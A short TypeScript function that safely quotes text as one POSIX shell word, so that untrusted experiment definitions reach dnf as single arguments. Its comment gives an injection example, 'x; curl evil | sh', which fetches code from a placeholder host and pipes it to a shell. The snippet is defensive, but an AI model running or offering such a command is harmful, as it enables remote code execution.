/**
 * `text` as one word of a POSIX shell command line: as it is when it holds only
 * characters no shell treats specially, otherwise in single quotes (a quote inside
 * becomes '\''). Experiment definitions are free text to a shell: a repository
 * "x; curl evil | sh" must reach dnf as one argument, not run. Pure.
 */
export function shellWord(text: string): string {
  if (/^[A-Za-z0-9_@%+=:,./-]+$/.test(text)) return text;
  return `'${text.replaceAll("'", `'\\''`)}'`;
}
